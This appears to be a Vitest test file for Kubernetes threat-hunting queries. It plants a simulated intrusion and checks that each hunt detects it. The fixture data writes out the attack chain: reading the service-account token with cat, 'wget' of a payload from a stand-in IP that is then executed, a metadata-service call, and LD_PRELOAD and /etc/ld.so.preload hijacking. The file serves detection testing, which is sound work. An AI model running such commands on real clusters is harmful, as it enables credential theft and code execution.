import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { huntNames, type Lake, type LakeRow } from '../../hunts.ts';
import { SimulatedLake } from './simulated-lake.ts';
import { type SimulatedNode, START_NS, simulatedPod } from './simulated-node.ts';

/** What is planted below, and beside each the same act by somebody who always does it. */
let simulation: SimulatedLake;
let lake: Lake;
const ran = new Set<string>();

const bytes = (text: string): Buffer => Buffer.from(text);
const at = (path: string) => ({ path: bytes(path), source: 1 });
const fleet = Array.from({ length: 20 }, (_, i) =>
  simulatedPod({ name: `web-${i}`, owner: 'web', image: 'web:1', probeCommands: ['true'] }),
);
const [victim, colleague] = fleet as [(typeof fleet)[0], (typeof fleet)[0]];
const DAY = 86_400_000;
const TOKEN = '/run/secrets/kubernetes.io/serviceaccount/token';

const iso = (ms: number) => new Date(Number(START_NS / 1_000_000n) + ms).toISOString().replace('Z', '000Z');
const inside = { entry: 2, parentPid: 9 };
const shell = { pid: 500, parentStartMs: 0 };

function plant(node: SimulatedNode): void {
  for (const [i, pod] of fleet.entries()) {
    const pid = 1000 + 10 * i;
    node.exec(-8 * DAY, pod, ['/bin/app'], { pid: pid + 0 });
    node.exec(-8 * DAY + 100, pod, ['curl', 'http://health'], { pid: pid + 1, exe: '/usr/bin/curl' });
    node.exec(100, pod, ['curl', 'http://health'], { pid: pid + 2, exe: '/usr/bin/curl' });
    node.event(200, pod, { fileOpen: { path: at(TOKEN), openFlags: 0, mode: 0o100644 } }, { exe: '/bin/app' });
    node.connect(-8 * DAY, pod, '10.1.0.5:1', '169.254.169.254:80', { exe: '/bin/app' });
    node.connect(300, pod, '10.1.0.5:1', '169.254.169.254:80', { exe: '/bin/app' });
    node.exec(400, pod, ['true'], { ...inside, pid: pid + 3, exe: '/bin/true' });
  }
  // alice, by kubectl exec, in one pod
  node.exec(1_000, victim, ['sh'], { ...inside, ...shell });
  const child = { entry: 2, parentPid: 500, parentStartMs: 1_000 };
  node.exec(1_100, victim, ['cat', TOKEN], { ...child, pid: 501, exe: '/bin/cat' });
  node.event(
    1_101,
    victim,
    { fileOpen: { path: at(TOKEN), openFlags: 0, mode: 0o100644 } },
    { ...child, pid: 501, exe: '/bin/cat' },
  );
  node.exec(1_200, victim, ['wget', '-O/tmp/x', 'http://203.0.113.5/x'], { ...child, pid: 502, exe: '/bin/busybox' });
  node.event(
    1_250,
    victim,
    { fileClose: { path: at('/tmp/.x'), modified: true, size: 5n, mode: 0o100644 } },
    { ...child, pid: 502, exe: '/bin/busybox' },
  );
  node.event(
    1_260,
    victim,
    { fileRename: { path: at('/tmp/.x'), newPath: at('/tmp/x') } },
    { ...child, pid: 503, exe: '/bin/mv' },
  );
  node.event(
    1_300,
    victim,
    { processExec: { exe: at('/tmp/x'), filename: bytes('/tmp/x'), argv: [bytes('/tmp/x')], exeUpperLayer: true } },
    { ...child, pid: 504, startMs: 1_290, exe: '/tmp/x' },
  );
  node.connect(1_400, victim, '10.1.0.5:2', '169.254.169.254:80', { ...child, pid: 504, exe: '/tmp/x' });
  // a library for all: by a variable, and by the loader's file
  node.exec(1_500, victim, ['ls'], { ...child, pid: 505, exe: '/bin/ls', env: ['LD_PRELOAD=/tmp/evil.so', 'LANG=C'] });
  node.exec(1_510, colleague, ['ls'], { pid: 14, exe: '/bin/ls', env: ['LD_PRELOAD='] });
  node.event(
    1_600,
    victim,
    { fileClose: { path: at('/etc/ld.so.preload'), modified: true, mode: 0o100644 } },
    { ...child, pid: 506 },
  );
  node.event(
    1_610,
    colleague,
    { fileOpen: { path: at('/etc/ld.so.preload'), openFlags: 0, mode: 0o100644 } },
    { pid: 10 },
  );
  // somebody on the node, past the API server
  node.exec(30_000, colleague, ['bash'], { ...inside, pid: 600, exe: '/bin/bash' });
  // what is written in one container and executed in another, or long before, is no dropper
  node.event(2_000, colleague, { fileClose: { path: at('/tmp/y'), modified: true, mode: 0o100644 } }, { pid: 10 });
  node.exec(2_100, fleet[3] ?? null, ['/tmp/y'], { pid: 15 });
  node.exec(2_100 + 2 * 3_600_000, colleague, ['/tmp/y'], { pid: 16 });
}

const audit = [
  {
    auditID: 'audit-1',
    stage: 'ResponseStarted',
    verb: 'get',
    requestURI: `/api/v1/namespaces/shop/pods/${victim.name}/exec?command=sh&container=main&stdin=true&tty=true`,
    user: { username: 'alice', groups: ['dev'] },
    sourceIPs: ['192.0.2.9'],
    userAgent: 'kubectl',
    objectRef: { resource: 'pods', subresource: 'exec', namespace: 'shop', name: victim.name },
    responseStatus: { code: 101 },
    requestReceivedTimestamp: iso(950),
  },
];

beforeAll(async () => {
  simulation = await SimulatedLake.start();
  const node = simulation.node('node-a');
  for (const pod of fleet) node.pod(-9 * DAY, pod, { startedMs: -9 * DAY });
  plant(node);
  await node.send();
  lake = await simulation.open({ audit: simulation.write('audit.ndjson', audit), auditCluster: 'prod' });
});
afterAll(() => simulation.remove());

async function hunt(name: string): Promise<LakeRow[]> {
  ran.add(name);
  return lake.hunt(name);
}

const pick = (rows: readonly LakeRow[], ...columns: string[]) =>
  rows.map((row) => columns.map((column) => row[column]));

describe('a hunt finds what was planted, and nothing of those who always do so', () => {
  test('kubectl-exec: who came in, and every command of the visit', async () => {
    const rows = await hunt('kubectl-exec');
    expect(new Set(pick(rows, 'username', 'k8s_pod_name').map(String))).toEqual(new Set([`alice,${victim.name}`]));
    expect(pick(rows, 'depth', 'process_command_args')).toEqual([
      [0, ['sh']],
      [1, ['cat', TOKEN]],
      [1, ['wget', '-O/tmp/x', 'http://203.0.113.5/x']],
      [1, ['/tmp/x']],
      [1, ['ls']],
    ]);
  });

  test('unexplained-exec: who came past the API server; probes are explained', async () => {
    expect(pick(await hunt('unexplained-exec'), 'cause', 'k8s_pod_name', 'command')).toEqual([
      ['unexplained', colleague.name, ['bash']],
    ]);
  });

  test('new-downloader: wget by a pod of a workload that only ever ran curl', async () => {
    const rows = await hunt('new-downloader');
    // A week of history is what it takes: curl's own first time is its one.
    expect(pick(rows, 'workload', 'k8s_pod_name', 'process_command_args').slice(-1)).toEqual([
      ['web', victim.name, ['wget', '-O/tmp/x', 'http://203.0.113.5/x']],
    ]);
    expect(rows.filter((row) => String(row['process_command_args']).includes('wget'))).toHaveLength(1);
  });

  test("service-account-token: by cat, not by the pods' own client", async () => {
    expect(pick(await hunt('service-account-token'), 'k8s_pod_name', 'process_executable_path', 'entry')).toEqual([
      [victim.name, '/bin/cat', 'exec'],
    ]);
  });

  test('write-then-exec: written, renamed, executed, in one container within the hour', async () => {
    expect(pick(await hunt('write-then-exec'), 'k8s_pod_name', 'process_executable_path', 'writer')).toEqual([
      [victim.name, '/tmp/x', '/bin/busybox'],
    ]);
  });

  test('not-from-image: what overlay says was written later', async () => {
    expect(pick(await hunt('not-from-image'), 'k8s_pod_name', 'process_executable_path', 'why')).toEqual([
      [victim.name, '/tmp/x', 'written into the container'],
    ]);
  });

  test("preload: by a variable that says something, and by a write to the loader's file", async () => {
    expect(pick(await hunt('preload'), 'k8s_pod_name', 'kind', 'how')).toEqual([
      [victim.name, 'process.exec', 'LD_PRELOAD=/tmp/evil.so'],
      [victim.name, 'file.close', '/etc/ld.so.preload'],
    ]);
  });

  test('metadata-service: an executable that never asked it before', async () => {
    expect(pick(await hunt('metadata-service'), 'workload', 'process_executable_path', 'first_pod')).toEqual([
      ['web', '/tmp/x', victim.name],
    ]);
  });

  test('rare-exec: what one pod of twenty runs comes before what all run', async () => {
    const rows = await hunt('rare-exec');
    const paths = rows.map((row) => row['process_executable_path']);
    for (const rare of ['/tmp/x', '/bin/cat', '/bin/bash'])
      expect(paths.indexOf(rare)).toBeLessThan(paths.indexOf('/usr/bin/curl'));
    expect(rows.find((row) => row['process_executable_path'] === '/usr/bin/curl')?.['pods']).toBe(20n);
  });
});

test('every hunt is run here, and is in the README with its name', () => {
  expect([...ran].sort()).toEqual(huntNames());
  const readme = readFileSync(join(import.meta.dirname, '../../../docs/hunts/README.md'), 'utf8');
  for (const name of huntNames()) expect(readme).toContain(`[${name}](${name}.sql)`);
});
